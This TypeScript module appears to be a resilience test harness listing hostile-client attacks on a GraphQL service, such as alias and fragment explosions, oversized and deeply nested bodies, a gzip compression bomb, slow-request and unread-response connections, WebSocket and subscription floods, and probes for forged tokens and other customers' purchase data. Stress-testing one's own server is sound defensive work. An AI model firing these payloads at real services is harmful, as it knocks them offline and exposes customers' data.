/** What a hostile client does, one attack a function: each ends by itself within seconds, whatever the server does. */
import { randomBytes, randomUUID } from 'node:crypto';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import WebSocket from 'ws';

export interface Target {
  readonly url: string;
  /** A customer's, who has signed in like any other. */
  readonly token: string;
  /** Sent with every request: the address that a trusted proxy tells. */
  readonly headers: Readonly<Record<string, string>>;
}

const PATIENCE_MS = 10_000;
const many = (count: number, of: (i: number) => string) => Array.from({ length: count }, (_, i) => of(i)).join(' ');

async function post({ url, token, headers }: Target, body: string, more: Record<string, string> = {}): Promise<void> {
  const response = await fetch(`${url}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', authorization: `Bearer ${token}`, ...headers, ...more },
    body,
    signal: AbortSignal.timeout(PATIENCE_MS),
  });
  await response.arrayBuffer();
}

const ask = (target: Target, query: string, variables: object = {}) =>
  post(target, JSON.stringify({ query, variables }));

function socket({ url, headers }: Target): WebSocket {
  const opened = new WebSocket(`${url.replace('http', 'ws')}/graphql`, 'graphql-transport-ws', {
    headers,
    handshakeTimeout: PATIENCE_MS,
  });
  // It is to be cut off: that is no news.
  opened.on('error', () => undefined);
  return opened;
}

/** Opens so many WebSockets, does something on each, and leaves after some seconds. */
async function onSockets(
  target: Target,
  count: number,
  stayMs: number,
  signIn: boolean,
  then: (opened: WebSocket) => void,
): Promise<void> {
  const all = Array.from({ length: count }, () => socket(target));
  for (const opened of all) {
    opened.on('open', () => {
      if (!signIn) return then(opened);
      const payload = { authorization: `Bearer ${target.token}` };
      opened.send(JSON.stringify({ type: 'connection_init', payload }), () => undefined);
      opened.once('message', () => then(opened));
    });
  }
  await pause(stayMs);
  for (const opened of all) opened.terminate();
}

const send = (opened: WebSocket, message: object) => {
  if (opened.readyState === WebSocket.OPEN) opened.send(JSON.stringify(message), () => undefined);
};

const subscribe = (opened: WebSocket, id: string, query: string, variables: object = {}) =>
  send(opened, { id, type: 'subscribe', payload: { query, variables } });

/** A request written by hand, on a connection from which nothing is read. */
function unread({ url, token, headers }: Target, body: string): Socket {
  const { hostname, port } = new URL(url);
  const opened = connect({ host: hostname, port: Number(port) });
  opened.on('error', () => undefined);
  opened.pause();
  const lines = Object.entries(headers).map(([name, value]) => `${name}: ${value}\r\n`);
  opened.write(
    `POST /graphql HTTP/1.1\r\nhost: ${hostname}:${port}\r\n${lines.join('')}authorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: ${Buffer.byteLength(body)}\r\n\r\n${body}`,
  );
  return opened;
}

const aliases = (count: number, inner: string) => many(count, (i) => `a${i}: ${inner}`);
const INTROSPECTION = `{ __schema { types { ...F } } } fragment F on __Type { ${aliases(8, 'fields { ...T }')} }
  fragment T on __Field { ${aliases(8, 'type { ...N }')} } fragment N on __Type { ${aliases(8, 'ofType { name }')} }`;
const LIST = '{ products(first: 200) { nodes { id name description price stock } } }';
const words = (count: number) => many(count, (i) => `w${i}`);
const ADDRESS_FIELDS = 'id firstName lastName email';

export const ATTACKS: Readonly<Record<string, (target: Target) => Promise<void>>> = {
  introspection: (target) => ask(target, INTROSPECTION),
  aliases: (target) => ask(target, `{ ${many(1200, (i) => `p${i}: product(id: "${i}") { id }`)} }`),
  duplicates: (target) => ask(target, `{ ${'products { totalCount } '.repeat(2000)} }`),
  directives: (target) => ask(target, `{ products { totalCount ${'@include(if: true) '.repeat(3000)} } }`),
  'fragments that double': (target) =>
    ask(
      target,
      `{ ...F0 } ${many(40, (i) => `fragment F${i} on Query { ...F${i + 1} ...F${i + 1} }`)} fragment F40 on Query { products { totalCount } }`,
    ),
  'the dearest that is allowed': (target) =>
    ask(target, `{ ${many(9, (i) => `p${i}: products(first: 200) { totalCount nodes { id name stock } }`)} }`),
  'broad search': (target) =>
    ask(target, 'query ($t: String) { products(first: 200, filter: { text: $t }) { totalCount nodes { id } } }', {
      t: many(20, () => 'a'),
    }),
  'very many words': (target) =>
    ask(target, `query ($t: String) { ${many(100, (i) => `p${i}: products(filter: { text: $t }) { totalCount }`)} }`, {
      t: words(3000),
    }),
  'deep variables': (target) =>
    post(
      target,
      `{"query":"query($f: ProductFilter) { products(filter: $f) { totalCount } }","variables":{"f":${'['.repeat(50_000)}${']'.repeat(50_000)}}}`,
    ),
  'half a megabyte': (target) => post(target, `{"query":"{ a }","variables":{"x":"${'x'.repeat(500_000)}"}}`),
  'ten megabytes': (target) => post(target, `{"query":"${'x'.repeat(10_000_000)}"}`),
  'no JSON': (target) => post(target, '{"query":'.repeat(20_000)),
  'a compression bomb': async ({ url, token, headers }) => {
    const response = await fetch(`${url}/graphql`, {
      method: 'POST',
      headers: {
        'content-type': 'application/json',
        'content-encoding': 'gzip',
        authorization: `Bearer ${token}`,
        ...headers,
      },
      body: new Uint8Array(gzipSync(Buffer.alloc(50_000_000, ' '))),
      signal: AbortSignal.timeout(PATIENCE_MS),
    });
    await response.arrayBuffer();
  },
  'tokens of others': (target) =>
    ask({ ...target, token: `${randomBytes(20).toString('base64url')}.${'e30'.repeat(1000)}.x` }, LIST),
  'ids that do not exist': (target) =>
    ask(target, `{ ${many(90, (i) => `t${i}: transaction(id: "${randomUUID()}") { id }`)} }`),
  'reflecting what does not exist': (target) =>
    ask(target, `{ product(id: "x", reflecting: "${randomUUID()}") { id } }`),
  "others' purchases": (target) =>
    ask(target, `{ purchases(first: 200) { nodes { customer { ${ADDRESS_FIELDS} } } } }`),
  'commands by the hundred': (target) =>
    ask(
      target,
      `mutation { ${many(90, (i) => `m${i}: placePurchase(input: { customerId: "${randomUUID()}", lines: [{ productId: "${i}", quantity: 1 }] }) { id }`)} }`,
    ),
  'commands one by one': (target) =>
    ask(
      target,
      `mutation { placePurchase(input: { customerId: "${randomUUID()}", lines: [{ productId: "x", quantity: 1 }] }) { id } }`,
    ),
  'answers that nobody reads': async (target) => {
    const query = `{ ${many(5, (i) => `p${i}: products(first: 200) { nodes { id name description price stock } }`)} }`;
    const all = Array.from({ length: 20 }, () => unread(target, JSON.stringify({ query })));
    await pause(3000);
    for (const opened of all) opened.destroy();
  },
  'slow requests': async (target) => {
    const { hostname, port } = new URL(target.url);
    const all = Array.from({ length: 50 }, () => {
      const opened = connect({ host: hostname, port: Number(port) });
      opened.on('error', () => undefined);
      opened.write('POST /graphql HTTP/1.1\r\nhost: x\r\ncontent-length: 1000\r\n');
      return opened;
    });
    for (let i = 0; i < 10; i++) {
      await pause(300);
      for (const opened of all) opened.write(`x-${i}: y\r\n`);
    }
    for (const opened of all) opened.destroy();
  },
  'sockets that say nothing': (target) => onSockets(target, 50, 3000, false, () => undefined),
  'pings before init': (target) =>
    onSockets(target, 5, 2000, false, (opened) => {
      for (let i = 0; i < 200; i++) send(opened, { type: 'ping', payload: { text: 'x'.repeat(10_000) } });
    }),
  'subscribe and complete': (target) =>
    onSockets(target, 5, 3000, true, (opened) => {
      for (let i = 0; i < 2000; i++) {
        subscribe(opened, `${i}`, 'subscription { productChanged { id } }');
        send(opened, { id: `${i}`, type: 'complete' });
      }
    }),
  'very many subscriptions': (target) =>
    onSockets(target, 10, 3000, true, (opened) => {
      const fields = many(300, (i) => `a${i}: name`);
      for (let i = 0; i < 300; i++)
        subscribe(opened, `${i}`, `subscription { productChanged { product { ${fields} } } }`);
    }),
  'a subscriber that never reads': (target) =>
    onSockets(target, 5, 3000, true, (opened) => {
      for (let i = 0; i < 20; i++) subscribe(opened, `${i}`, LIST);
      opened.pause();
    }),
  'sockets without end': (target) => onSockets(target, 200, 1000, true, () => undefined),
};
